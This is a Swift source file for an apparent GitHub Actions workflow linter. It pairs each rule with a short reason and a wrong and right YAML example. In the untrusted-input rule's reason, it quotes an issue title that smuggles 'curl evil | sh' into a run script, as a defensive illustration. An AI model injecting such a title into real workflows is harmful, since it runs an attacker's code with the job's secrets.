extension Rule {
    /// Why it matters, in a sentence or two.
    public var reason: String {
        switch self {
        case .invalidYAML: "Nothing of such a file can be read for sure, so nothing of it is run."
        case .limit: "A file that anybody may push must not make the server work for long."
        case .duplicateKey: "YAML readers disagree about which of the two counts."
        case .unknownKey: "A key that nobody knows would do nothing, and its author would never learn of it."
        case .unsupportedAction: "What can't be carried out is said before the run, not passed over in it."
        case .unavailable: "The file is right, and a run that comes to this part fails and says so."
        case .missingKey: "Without it there is nothing to run, or nothing to run it by."
        case .wrongType, .invalidValue:
            "GitHub refuses the file, and a guess at what was meant would be wrong for somebody."
        case .exclusiveFilters:
            "Nobody can tell from the file which of the two wins. GitHub refuses it, and so does this server."
        case .badSchedule: "The workflow would never start, or at times that nobody meant."
        case .badGlob: "A filter that fits nothing lets no event through, or every one."
        case .duplicateID: "Whoever reads 'needs' or 'steps' by that id would get one of the two by chance."
        case .expression: "An expression that can't be read has no value, and the job would fail when it comes to it."
        case .unknownContext: "GitHub makes each context available only where its values are known already."
        case .unknownFunction: "success() and its like belong to conditions, and hashFiles() needs the files of a step."
        case .undefinedNeeds: "Of a job that is not in 'needs' nothing is known: the value is null."
        case .undefinedOutput:
            "It would be empty in every run. Here the file is refused, since what it calls is known before it runs."
        case .undefinedJob: "The caller would get an empty output."
        case .undefinedStep: "Of a step that has not run nothing is known: the value is null."
        case .undefinedMatrix, .undefinedInput: "The value is null in every run, mostly because of a slip of the pen."
        case .undefinedSecret: "A caller hands over only the secrets that are declared, unless it says 'inherit'."
        case .undefinedProperty: "The value is null in every run."
        case .typeMismatch: "The value is null, or a text such as 'Object', in every run."
        case .shortenedNumber:
            "YAML reads 3.10 without quotes as the number 3.1, and that version is installed or not found."
        case .impossibleMatrix: "Neither GitHub nor this server makes more than 256 jobs of one matrix."
        case .matrixMismatch: "The same job would run twice, or one that was to be left out runs."
        case .unusedAnchor: "What is meant to be used in two places is used in one."
        case .missingInput: "The call fails as soon as it begins."
        case .needsCycle, .noFirstJob: "None of the jobs would ever start."
        case .constantCondition: "The step always runs, or never, whatever the condition seems to ask."
        case .untrustedInput:
            "The text is put into the script before the shell reads it, so that a title such as '\"; curl evil | sh; \"' "
                + "runs with the secrets of the job. A variable is data to the shell, whatever stands in it."
        case .missingTimeout: "A training that hangs blocks its machine for six hours, and its GPU with it."
        case .plainSecret: "Whoever may read the repository may read the password, in its history too."
        case .deprecatedCommand:
            "Whatever a program prints could give such a command; GitHub has replaced it by a file."
        case .notPortable: "A file that is to run on GitHub as well must do without it."
        case .brokenCall: "The call fails before its first job."
        case .actionLock:
            "A tag of somebody else's repository can be moved to other code at any time; the lock file says which commit "
                + "was looked at."
        case .missingAction: "The job would fail when it comes to the step."
        }
    }

    /// A piece of a workflow with the mistake and without it.
    public var example: RuleExample {
        switch self {
        case .invalidYAML: .init(.workflow, wrong: "on: push\nname: \"CI", right: "on: push\nname: \"CI\"")
        case .limit:
            .init(
                .workflow, wrong: "on: {workflow_dispatch: {inputs: {\(Self.names(26))}}}",
                right: "on: {workflow_dispatch: {inputs: {\(Self.names(25))}}}")
        case .unsupportedAction:
            .init(
                .step, wrong: "uses: actions/checkout@v4\nwith: {ssh-key: '${{ secrets.KEY }}'}",
                right: "uses: actions/checkout@v4\nwith: {token: '${{ secrets.TOKEN }}'}")
        case .brokenCall:
            .init(
                .job, wrong: "uses: ./.anneal/workflows/tset.yml", right: "uses: ./.anneal/workflows/test.yml",
                beside: Self.called)
        case .undefinedOutput:
            .init(
                .workflow, wrong: Self.reader(of: "modle"), right: Self.reader(of: "model"), beside: Self.called)
        case .notPortable: .init(.job, wrong: "tier: unit", right: "name: Unit tests")
        case .actionLock:
            .init(
                .step, wrong: "uses: octo/weather@v2", right: "uses: octo/weather@v1",
                beside: .init(
                    path: ActionLock.path, text: "octo/weather@v1 0123456789abcdef0123456789abcdef01234567\n"))
        case .missingAction:
            .init(
                .step, wrong: "uses: actions/checkout@v4\n- uses: ./actions/biuld",
                right: "uses: actions/checkout@v4\n- uses: ./actions/build",
                beside: .init(
                    path: "actions/build/action.yml",
                    text: "name: Build\nruns: {using: composite, steps: [{run: make, shell: bash}]}\n"))
        case .duplicateKey: .init(.job, wrong: "name: a\nname: b", right: "name: a")
        case .unknownKey: .init(.job, wrong: "timeout: 10", right: "timeout-minutes: 10")
        case .unavailable: .init(.job, wrong: "container: debian:12", right: "name: without a container")
        case .missingKey: .init(.step, wrong: "name: Test", right: "name: Test\nrun: make test")
        case .wrongType: .init(.job, wrong: "continue-on-error: 'yes'", right: "continue-on-error: true")
        case .invalidValue: .init(.job, wrong: "tier: units", right: "tier: unit")
        case .exclusiveFilters:
            .init(
                .workflow, wrong: "on:\n  push:\n    branches: ['**']\n    branches-ignore: [old]",
                right: "on:\n  push:\n    branches: ['**', '!old']")
        case .badSchedule:
            .init(
                .workflow, wrong: "on:\n  schedule:\n    - cron: '0 25 * * *'",
                right: "on:\n  schedule:\n    - cron: '0 2 * * *'")
        case .badGlob:
            .init(.workflow, wrong: "on:\n  push:\n    paths: ['[a']", right: "on:\n  push:\n    paths: ['[a]']")
        case .duplicateID:
            .init(.step, wrong: "id: a\nrun: x\n- id: A\nrun: y", right: "id: a\nrun: x\n- id: b\nrun: y")
        case .expression: .init(.step, wrong: "run: echo ${{ github.ref }", right: "run: echo ${{ github.ref }}")
        case .unknownContext: .init(.job, wrong: "if: env.DEPLOY == '1'", right: "if: vars.DEPLOY == '1'")
        case .unknownFunction: .init(.job, wrong: "name: ${{ always() }}", right: "if: always()")
        case .undefinedNeeds: .init(.step, wrong: "run: echo ${{ needs.test.result }}", right: "run: echo")
        case .undefinedJob:
            .init(
                .workflow,
                wrong: "on:\n  workflow_call:\n    outputs:\n      tag: {value: '${{ jobs.biuld.result }}'}",
                right: "on:\n  workflow_call:\n    outputs:\n      tag: {value: '${{ jobs.build.result }}'}")
        case .undefinedStep:
            .init(
                .step, wrong: "run: echo ${{ steps.tag.outputs.x }}",
                right: "id: tag\nrun: x\n- run: echo ${{ steps.tag.outputs.x }}")
        case .undefinedMatrix:
            .init(
                .job, wrong: "strategy: {matrix: {os: [a]}}\nname: ${{ matrix.so }}",
                right: "strategy: {matrix: {os: [a]}}\nname: ${{ matrix.os }}")
        case .undefinedInput:
            .init(
                .workflow, wrong: "on: workflow_dispatch\nrun-name: ${{ inputs.tag }}",
                right: "on: {workflow_dispatch: {inputs: {tag: {}}}}\nrun-name: ${{ inputs.tag }}")
        case .undefinedSecret:
            .init(
                .workflow, wrong: "on: {workflow_call: {secrets: {}}}\nenv: {T: '${{ secrets.T }}'}",
                right: "on: {workflow_call: {secrets: {T: {required: true}}}}\nenv: {T: '${{ secrets.T }}'}")
        case .undefinedProperty:
            .init(.step, wrong: "run: echo ${{ github.branch }}", right: "run: echo ${{ github.ref_name }}")
        case .typeMismatch:
            .init(.step, wrong: "run: echo '${{ runner }}'", right: "run: echo '${{ toJSON(runner) }}'")
        case .shortenedNumber:
            .init(
                .step, wrong: "uses: actions/setup-python@v5\nwith: {python-version: 3.10}",
                right: "uses: actions/setup-python@v5\nwith: {python-version: '3.10'}")
        case .impossibleMatrix:
            .init(
                .job, wrong: "strategy: {matrix: {a: \(Self.list(17)), b: \(Self.list(17))}}",
                right: "strategy: {matrix: {a: \(Self.list(16)), b: \(Self.list(16))}}")
        case .matrixMismatch:
            .init(.job, wrong: "strategy: {matrix: {os: [a, a]}}", right: "strategy: {matrix: {os: [a, b]}}")
        case .unusedAnchor: .init(.step, wrong: "run: &script make", right: "run: make")
        case .missingInput:
            .init(
                .step, wrong: "uses: actions/cache@v4\nwith: {path: a}",
                right: "uses: actions/cache@v4\nwith: {path: a, key: k}")
        case .needsCycle:
            .init(
                .workflow, wrong: "on: push\njobs:\n  a: {needs: b, runs-on: x}\n  b: {needs: a, runs-on: x}",
                right: "on: push\njobs:\n  a: {needs: b, runs-on: x}\n  b: {runs-on: x}")
        case .noFirstJob: .init(.workflow, wrong: "on: push\njobs: {}", right: "on: push\njobs:\n  a: {runs-on: x}")
        case .constantCondition:
            .init(
                .step, wrong: "run: x\nif: ${{ failure() }} && github.ref",
                right: "run: x\nif: ${{ failure() && github.ref }}")
        case .untrustedInput:
            .init(
                .step, wrong: "run: echo ${{ github.event.issue.title }}",
                right: "run: echo \"$TITLE\"\nenv: {TITLE: '${{ github.event.issue.title }}'}")
        case .missingTimeout: .init(.job, wrong: "name: Train", right: "name: Train\ntimeout-minutes: 60")
        case .plainSecret:
            .init(
                .job, wrong: "container: {image: x, credentials: {username: u, password: p}}",
                right: "container: {image: x, credentials: {username: u, password: '${{ secrets.P }}'}}")
        case .deprecatedCommand:
            .init(.step, wrong: "run: echo '::set-output name=a::b'", right: "run: echo a=b >> \"$GITHUB_OUTPUT\"")
        }
    }

    private static let called = RuleExample.Companion(
        path: ".anneal/workflows/test.yml",
        text: """
            on: {workflow_call: {outputs: {model: {value: '${{ jobs.fit.outputs.path }}'}}}}
            jobs: {fit: {runs-on: linux, outputs: {path: model.bin}}}

            """)

    private static func reader(of output: String) -> String {
        "on: push\njobs:\n  test: {uses: ./.anneal/workflows/test.yml}\n"
            + "  show: {needs: test, runs-on: linux, name: '${{ needs.test.outputs.\(output) }}'}"
    }

    private static func names(_ count: Int) -> String { (1...count).map { "i\($0): " }.joined(separator: ", ") }
    private static func list(_ count: Int) -> String { "[\((1...count).map(String.init).joined(separator: ", "))]" }
}
